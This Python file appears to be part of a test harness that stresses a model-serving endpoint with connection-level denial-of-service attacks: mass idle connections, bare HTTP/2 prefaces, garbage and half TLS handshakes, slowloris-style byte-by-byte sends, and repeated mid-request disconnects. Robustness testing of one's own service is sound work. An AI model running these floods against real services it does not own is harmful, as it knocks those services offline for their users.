"""Attacks with connections only: many, silent, slow, garbled, or soon closed."""

import contextlib
import itertools
import os
import socket
import time
from collections.abc import Callable

import numpy as np
from abuse.attacks import wire
from abuse.attacks.attacker import Counts, Target

from serving.client import predict_request

_GARBAGE_CONNECTIONS = 300


def _hold(target: Target, count: int, first_bytes: bytes = b"") -> Counts:
    """Open connections as fast as the kernel accepts them, and hold them until the attack ends."""
    opened = []
    for _ in range(count):
        connecting = socket.socket()
        connecting.bind((wire.ATTACKER_HOST, 0))
        connecting.setblocking(False)
        connecting.connect_ex(target.address)
        opened.append(connecting)
    time.sleep(min(target.left(), 0.3))
    connected = 0
    for connection in opened:
        with contextlib.suppress(OSError):
            connection.getpeername()
            connected += 1
            if first_bytes:
                connection.send(first_bytes)
    time.sleep(target.left())
    for connection in opened:
        wire.hang_up(connection)
    return {"connections": count, "connected at first": connected}


def idle(count: int) -> Callable[[Target], Counts]:
    return lambda target: _hold(target, count)


def preface_only(target: Target) -> Counts:
    """Send the HTTP/2 preface on 500 connections, and then nothing more."""
    return _hold(target, 500, wire.PREFACE + wire.settings({}))


def garbage(target: Target) -> Counts:
    """Send half of a TLS ClientHello, random bytes, or half of a request line."""
    sent = 0
    starts = (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", os.urandom(400), b"POST /v1/mod")
    opened = []
    for number in range(_GARBAGE_CONNECTIONS):
        with contextlib.suppress(OSError):
            connection = wire.connect(target.address)
            opened.append(connection)
            connection.sendall(starts[number % 3])
            sent += 1
        if not target.left():
            break
    time.sleep(target.left())
    for connection in opened:
        wire.hang_up(connection)
    return {"connections": sent}


def slow_preface(target: Target) -> Counts:
    """Send the HTTP/2 preface byte by byte on 300 connections."""
    opened = []
    for _ in range(_GARBAGE_CONNECTIONS):
        with contextlib.suppress(OSError):
            opened.append(wire.connect(target.address))
    sent = 0
    for byte in wire.PREFACE:
        for connection in opened:
            with contextlib.suppress(OSError):
                connection.send(bytes([byte]))
                sent += 1
        time.sleep(min(0.2, target.left()))
        if not target.left():
            break
    for connection in opened:
        wire.hang_up(connection)
    return {"connections": len(opened), "bytes": sent}


def disconnects(target: Target) -> Counts:
    """Disconnect in the middle of a request, 3,400 times a round."""
    message = predict_request("identity", {"x": np.ones((64, 3), np.float32)}).SerializeToString()
    fields = wire.header_block(wire.grpc_fields(wire.PREDICT))
    half = b"".join(
        [
            wire.PREFACE + wire.settings({}),
            wire.frame(wire.HEADERS, fields, flags=wire.END_HEADERS, stream=1),
            wire.frame(wire.DATA, wire.grpc_body(message)[:400], stream=1),
        ]
    )
    http1 = b"POST /v1/models/identity:predict HTTP/1.1\r\nhost: x\r\ncontent-length: 99\r\n\r\n{"
    done = refused = 0
    for number in itertools.count():
        if done + refused >= 3400 or not target.left():
            break
        try:
            connection = wire.connect(target.address)
            connection.sendall(http1 if number % 4 == 0 else half)
            done += 1
        except OSError:
            refused += 1
            continue
        wire.hang_up(connection)
    return {"disconnects": done, "refused": refused}


ATTACKS = {
    "idle_1200": idle(1200),
    "idle_5000": idle(5000),
    "preface_only": preface_only,
    "garbage": garbage,
    "slow_preface": slow_preface,
    "disconnects": disconnects,
}
